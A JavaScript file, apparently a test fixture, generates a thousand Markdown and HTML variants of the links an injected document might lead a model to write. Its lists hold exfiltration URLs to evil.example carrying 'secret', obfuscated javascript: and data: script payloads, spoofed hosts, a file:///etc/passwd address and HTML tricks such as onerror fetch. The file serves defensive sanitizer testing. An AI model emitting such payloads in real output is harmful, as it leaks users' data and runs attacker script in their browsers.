// What a model might write, told to by a document, to send something away or to run something: a
// thousand variants of links, images, HTML and addresses, in the places where Markdown knows them.

const kTarget = 'evil.example/collect?d=secret';

const kAddresses = [
  `https://${kTarget}`, `http://${kTarget}`, `//${kTarget}`, `HTTPS://${kTarget}`,
  `hxxps://${kTarget}`, `ftp://${kTarget}`, `ws://${kTarget}`, `mailto:a@evil.example?body=secret`,
  `tel:+123`, `sms:+123?body=secret`, `file:///etc/passwd`, `blob:https://${kTarget}`,
  `javascript:alert(1)`, `JaVaScRiPt:alert(1)`, ` javascript:alert(1)`, `java\tscript:alert(1)`,
  `java&#10;script:alert(1)`, `&#106;avascript:alert(1)`, `javascript&colon;alert(1)`,
  `\u0001javascript:alert(1)`, `\u200bjavascript:alert(1)`, `javas\u00adcript:alert(1)`,
  `javascript://%0aalert(1)`, `vbscript:msgbox(1)`, `data:text/html,<script>alert(1)</script>`,
  `data:text/html;base64,PHNjcmlwdD4=`, `data:image/svg+xml,<svg onload=alert(1)>`,
  `data:image/png;base64,AAAA`, `https://ev\u0456l.example/\u202egnp.exe`, `https:\\\\evil.example\\x`,
  `https://user:pass@evil.example/`, `https://evil.example\u3002com/`, `https:evil.example`,
  `/api/v1/documents/../../x`, `?q=secret`, `#x`, `x-scheme://open`, `intent://evil#Intent;end`,
];

const kForms = [
  (a) => `[read more](${a})`, (a) => `[read more](<${a}>)`, (a) => `[read more](${a} "title")`,
  (a) => `[](${a})`, (a) => `[**bold**](${a})`, (a) => `[1](${a})`, (a) => `[1]: ${a}\n\n[1] [1][1]`,
  (a) => `[read][r]\n\n[r]: ${a}`, (a) => `[r]\n\n[r]:${a} 'x'`, (a) => `![alt](${a})`,
  (a) => `![](${a})`, (a) => `![alt][i]\n\n[i]: ${a}`, (a) => `[![x](${a})](${a})`, (a) => `<${a}>`,
  (a) => a, (a) => `see ${a}, please`, (a) => `<a href="${a}">x</a>`, (a) => `<a href=${a}>x`,
  (a) => `<img src="${a}">`, (a) => `<img src=x onerror="fetch('${a}')">`,
  (a) => `<img\nsrc="${a}"\n/>`, (a) => `<picture><source srcset="${a}"></picture>`,
  (a) => `<iframe src="${a}"></iframe>`, (a) => `<script src="${a}"></script>`,
  (a) => `<link rel=stylesheet href="${a}">`, (a) => `<style>@import url(${a});</style>`,
  (a) => `<p style="background:url(${a})">x</p>`, (a) => `<meta http-equiv=refresh content="0;${a}">`,
  (a) => `<form action="${a}"><button>go</button></form>`, (a) => `<svg><a xlink:href="${a}"/></svg>`,
  (a) => `<video poster="${a}" autoplay>`, (a) => `<object data="${a}">`, (a) => `<base href="${a}">`,
  (a) => `&lt;a href=&quot;${a}&quot;&gt;x&lt;/a&gt;`, (a) => `&#60;img src=${a}&#62;`,
  (a) => `\\<img src="${a}">`, (a) => `\`\`[x](${a})\``, (a) => `\`\`\`\n<img src="${a}">`,
  (a) => `| a | b |\n|---|---|\n| ![x](${a}) | <a href="${a}">y</a> |`,
  (a) => `> [q](${a})`, (a) => `1. ![l](${a})`, (a) => `# [h](${a})`, (a) => `**[b](${a})**`,
  (a) => `*![e](${a})*`, (a) => `[x]\u200b(${a})`, (a) => `［x］（${a}）`, (a) => `[x] (${a})`,
  (a) => `[^1]\n\n[^1]: ${a}`, (a) => `【1†${a}】`, (a) => `$\\href{${a}}{x}$`, (a) => `:img[${a}]`,
  (a) => `<!-- --><img src="${a}"><!--`, (a) => `<x/onpointerenter=location='${a}'>x`,
  (a) => `[x](${a}\n)`, (a) => `[x\n](${a})`, (a) => `![x](${a}){width=1}`, (a) => `<${a}|x>`,
];

// A thousand, each form and each address many times.
export function variants() {
  const all = [];
  for (let i = 0; all.length < 1000; ++i) {
    const form = kForms[i % kForms.length];
    const address = kAddresses[(i * 7 + Math.floor(i / kForms.length)) % kAddresses.length];
    all.push(form(address));
  }
  return all;
}
